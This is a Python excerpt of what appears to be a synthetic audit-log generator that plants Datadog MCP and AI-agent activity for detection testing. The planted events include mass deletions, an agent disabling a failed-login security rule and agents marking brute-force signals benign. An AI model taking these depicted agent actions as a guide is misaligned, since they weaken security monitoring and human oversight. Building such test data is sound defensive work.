_TOOL_ARGS: dict[str, Callable[[random.Random], dict[str, Any]]] = {
    "search_datadog_logs": lambda r: {
        "query": r.choice(
            ["service:checkout status:error", "env:prod @http.status_code:>=500", "source:kafka lag"]
        ),
        "from": "now-1h",
        "to": "now",
        "max_tokens": 5000,
    },
    "search_datadog_monitors": lambda r: {
        "query": r.choice(["tag:team:payments", "status:alert", "checkout"])
    },
    "get_datadog_metric": lambda r: {
        "queries": [r.choice(["avg:payments.latency{env:prod}", "sum:checkout.orders.count{*}.as_count()"])],
        "from": "now-4h",
        "to": "now",
    },
    "search_datadog_dashboards": lambda r: {"query": r.choice(["checkout", "kafka", "latency"])},
    "search_datadog_rum_events": lambda r: {
        "query": "@type:view @view.name:Checkout env:production",
        "from": "now-1d",
        "to": "now",
        "max_tokens": 12000,
        "detailed_output": False,
    },
    "get_datadog_trace": lambda r: {"trace_id": str(r.getrandbits(63))},
    "search_datadog_incidents": lambda r: {"query": "state:active"},
    "search_datadog_spans": lambda r: {
        "query": "service:payments-api @duration:>2s",
        "from": "now-30m",
        "to": "now",
    },
    "get_datadog_notebook": lambda r: {"notebook_id": int(r.choice(NOTEBOOKS)[0])},
}
_READ_TOOLS = list(_TOOL_ARGS)
_CLIENT_FOR = {"priya": "cursor", "kevin": "claude", "sara": "generic", "emma": "claude", "tom": "cursor"}


def _ai_session(
    p: _Plant,
    who: Person,
    start: int,
    tools: list[tuple[str, dict[str, Any]]],
    gap_s: tuple[int, int] = (8, 90),
    client: str | None = None,
) -> int:
    sh, rng = p.shapes, p.rng
    cl = OAUTH_CLIENTS[client or _CLIENT_FOR[who.key]]
    origin = person_origin(who)
    usr = person_usr(who, full=True)
    p.add(sh.mcp_init(start, usr, who.email, origin, cl))
    p.add(sh.mcp_http(start + 300, who, origin, cl))
    t = start + rng.randrange(gap_s[0], gap_s[1]) * S
    for tool, args in tools:
        p.add(sh.mcp_tool(t, usr, who.email, origin, cl, tool, args))
        t += rng.randrange(gap_s[0], gap_s[1]) * S
    return t


def _read_tools(
    rng: random.Random, n: int, pool: list[str] | None = None
) -> list[tuple[str, dict[str, Any]]]:
    out = []
    for _ in range(n):
        tool = rng.choice(pool or _READ_TOOLS)
        out.append((tool, _TOOL_ARGS[tool](rng)))
    return out


def ai_activity(p: _Plant) -> None:
    rng, sh, end = p.rng, p.shapes, p.end
    priya, kevin, sara, emma, tom = (PEOPLE[k] for k in ("priya", "kevin", "sara", "emma", "tom"))

    # Regular users over the whole quarter (so none of them is "first-time" in the last week).
    for who, every_days, calls in ((priya, 3, (3, 8)), (kevin, 3, (4, 10)), (sara, 7, (1, 3))):
        day = 88 - rng.randrange(0, every_days)
        while day > 1:
            t = local_ms(end, _tz(who), day, rng.randrange(10, 17), rng.randrange(60))
            _ai_session(p, who, t, _read_tools(rng, rng.randint(*calls)))
            day -= every_days + rng.choice((-1, 0, 1))
    # Emma used AI for her own dashboards now and then, up to 10 days ago.
    for day in (70, 55, 41, 27, 10):
        t = local_ms(end, _tz(emma), day, 14, rng.randrange(60))
        _ai_session(p, emma, t, _read_tools(rng, 2, ["search_datadog_dashboards", "get_datadog_notebook"]))

    # Destructive MCP calls: Priya deletes two monitors and rewrites three dashboards through Cursor.
    t = p.mark("ai_destructive_start", end - 2 * D - 5 * H)
    tools: list[tuple[str, dict[str, Any]]] = [
        ("search_datadog_monitors", {"query": "tag:team:sre status:no_data"})
    ]
    tools += [("delete_monitor", {"monitor_id": int(mid)}) for mid in AI_DELETED_MONITORS]
    for did, name in (DASHBOARDS[1], DASHBOARDS[3], DASHBOARDS[10]):
        if did in COMPROMISE_DELETED_DASHBOARDS:
            did, name = DASHBOARDS[2]
        tools.append(("update_dashboard", {"dashboard_id": did, "title": name, "widgets": "…(42 widgets)"}))
    _ai_session(p, priya, t, tools, gap_s=(20, 70))

    # Datadog support using the MCP server in the org.
    t = p.mark("ai_support_start", end - 3 * D - 2 * H)
    support_usr = dict(SUPPORT_USER)
    cl = OAUTH_CLIENTS["generic"]
    p.add(sh.mcp_init(t, support_usr, SUPPORT_USER["email"], None, cl, actor_type="SUPPORT_USER"))
    for tool in (
        "search_datadog_logs",
        "search_datadog_monitors",
        "get_datadog_metric",
        "search_datadog_incidents",
    ):
        t += rng.randrange(20, 80) * S
        p.add(
            sh.mcp_tool(
                t,
                support_usr,
                SUPPORT_USER["email"],
                None,
                cl,
                tool,
                _TOOL_ARGS[tool](rng),
                actor_type="SUPPORT_USER",
            )
        )

    # First-time AI user: Tom's first ever MCP session, yesterday.
    t = p.mark("ai_first_time_start", end - 1 * D - 3 * H)
    _ai_session(p, tom, t, _read_tools(rng, 6))

    # Burst: Kevin's agent loop makes 120 tool calls in 5 minutes.
    t0 = p.mark("ai_burst_start", end - 4 * D - 6 * H)
    cl = OAUTH_CLIENTS["claude"]
    usr = person_usr(kevin, full=True)
    p.add(sh.mcp_init(t0 - 20 * S, usr, kevin.email, person_origin(kevin), cl))
    step = (5 * M - 5 * S) // PLANTED.ai_burst_calls
    for i in range(PLANTED.ai_burst_calls):
        tool = ("search_datadog_logs", "get_datadog_metric", "search_datadog_spans")[i % 3]
        p.add(
            sh.mcp_tool(
                t0 + i * step, usr, kevin.email, person_origin(kevin), cl, tool, _TOOL_ARGS[tool](rng)
            )
        )

    # Out of scope: Emma's AI session reaches monitors, users, security rules and logs — and the
    # Bits agent, on her behalf, modifies a monitor and a security rule.
    t = p.mark("ai_out_of_scope_start", end - 2 * D + 1 * H)
    scope_tools = [
        ("search_datadog_monitors", {"query": "tag:team:payments"}),
        ("update_monitor", {"monitor_id": int(STABLE_MON[0]), "options": {"thresholds": {"critical": 5000}}}),
        ("list_users", {"filter": "status:Active"}),
        ("search_datadog_logs", _TOOL_ARGS["search_datadog_logs"](rng)),
        ("get_security_rule", {"rule_id": "def-000-2ab"}),
    ]
    t = _ai_session(p, emma, t, scope_tools, gap_s=(30, 120))
    delegator = {"id": emma.email, "name": emma.name}
    agent = {"id": BITS_AGENT["id"], "uuid": BITS_AGENT["uuid"], "name": BITS_AGENT["name"]}
    p.add(
        sh.change(
            t + 2 * M, "Monitor", "monitor", "modified", STABLE_MON[0], STABLE_MON[1], usr=dict(agent),
            email=BITS_AGENT["name"], mode="interactive", delegator=dict(delegator),
            prev={"options": {"thresholds": {"critical": 800}}}, new={"options": {"thresholds": {"critical": 5000}}},
            inner_tags=[f"monitor_id:{STABLE_MON[0]}", "origin:bits_ai"],
        )
    )  # fmt: skip
    p.add(
        sh.change(
            t + 6 * M, "Cloud Security Platform", "security_rule", "modified", "def-000-2ab",
            "Anomalous number of failed logins", usr=dict(agent), email=BITS_AGENT["name"], mode="interactive",
            delegator=dict(delegator), prev={"isEnabled": True}, new={"isEnabled": False},
        )
    )  # fmt: skip

    # Other delegated and autonomous agent actions in the last month.
    p.add(
        sh.change(
            end - 6 * D + 3 * H, "Dashboard", "dashboard", "modified", DASHBOARDS[7][0], DASHBOARDS[7][1],
            usr=dict(agent), email=BITS_AGENT["name"], mode="interactive",
            delegator={"id": kevin.email, "name": kevin.name},
        )
    )  # fmt: skip
    for days in (26, 17, 9, 3):
        p.add(
            sh.change(
                end - days * D + 4 * H + rng.randrange(0, 300) * M, "Cloud Security Platform", "security_signal",
                "modified", f"AAAAA{rng.getrandbits(60):015x}", "Brute force attempt on login",
                usr=dict(agent), actor_type="SYSTEM", email=BITS_AGENT["name"], mode="autonomous", auth="SYSTEM",
                new={"state": "under_review", "assessment": "benign"},
            )
        )  # fmt: skip

    # Bits AI SRE investigations (started / tool_call / SYSTEM task), a few per month.
    for days, who in ((80, priya), (61, sara), (44, priya), (23, kevin), (12, sara), (5, priya)):
        ts = local_ms(end, _tz(who), days, 11, rng.randrange(60))
        items, _ = sh.bits_investigation(ts, who, int(rng.choice(STABLE_MONITOR_IDS)))
        for it in items:
            p.add(it)


# -- helpers ---------------------------------------------------------------------------------------


def _tz(p: Person) -> str:
    return CITIES[p.city].tz


def _ua(p: Person) -> str:
    """Each person keeps one browser (a new user agent would itself look like a new device)."""
    return BROWSER_UAS[PEOPLE_INDEX[p.key] % len(BROWSER_UAS)]


PEOPLE_INDEX = {k: i for i, k in enumerate(PEOPLE)}
STABLE_MONITOR_IDS = [m[0] for m in STABLE_MONITORS]
STABLE_MON = STABLE_MONITORS[0]


def _code(rng: random.Random) -> str:
    return "".join(rng.choice("abcdefghjkmnpqrstuvwxyz0123456789") for _ in range(3))


def _session_change(
    p: _Plant,
    ts: int,
    who: Person,
    evt_name: str,
    asset_type: str,
    action: str,
    asset_id: str | None,
    name: str | None,
    *,
    prev: dict[str, Any] | None = None,
    new: dict[str, Any] | None = None,
    tags: list[str] | None = None,
    http: tuple[str, str, int] | None = None,
    message: str | None = None,
) -> dict[str, Any]:
    inner_tags = [f"monitor_id:{asset_id}", "origin:UI"] if asset_type == "monitor" else None
    kwargs: dict[str, Any] = {}
    if tags is not None:
        kwargs["tags"] = tags
    return p.shapes.change(
        ts, evt_name, asset_type, action, asset_id, name, usr=person_usr(who, full=True), email=who.email,
        origin=person_origin(who), prev=prev, new=new, http=http, message=message, inner_tags=inner_tags,
        useragent=_ua(who) if http else None, **kwargs,
    )  # fmt: skip


def _session_delete(
    p: _Plant, ts: int, who: Person, evt_name: str, asset_type: str, asset_id: str, name: str, path: str
) -> dict[str, Any]:
    route = path.rsplit("/", 1)[0] + ("/{monitor_id}" if asset_type == "monitor" else "/{dashboard_id}")
    p.add(
        p.shapes.request(
            ts - 120, person_usr(who), "USER", who.email, person_origin(who), "DELETE", path, route, 200,
            _ua(who), host="app.datadoghq.com",
        )
    )  # fmt: skip
    return _session_change(
        p, ts, who, evt_name, asset_type, "deleted", asset_id, name, http=("DELETE", path, 200)
    )


def _role_grant(p: _Plant, ts: int, who: Person, grantee: Person, role: tuple[str, str]) -> dict[str, Any]:
    # Same shape for "user added to role" and "permissions edited" (quirk 15): the diff tells them apart.
    return _session_change(
        p, ts, who, "Access Management", "role", "modified", role[0], role[1],
        prev={"users": {"count": 7}}, new={"users": {"count": 8, "added": [grantee.email]}},
        http=("POST", f"/api/v2/roles/{role[0]}/users", 200),
    )  # fmt: skip


_STEPS: list[Callable[[_Plant], None]] = [
    steady_keys,
    compromised_key,
    spike_cluster,
    explore_presets,
    org_history,
    ai_activity,
]
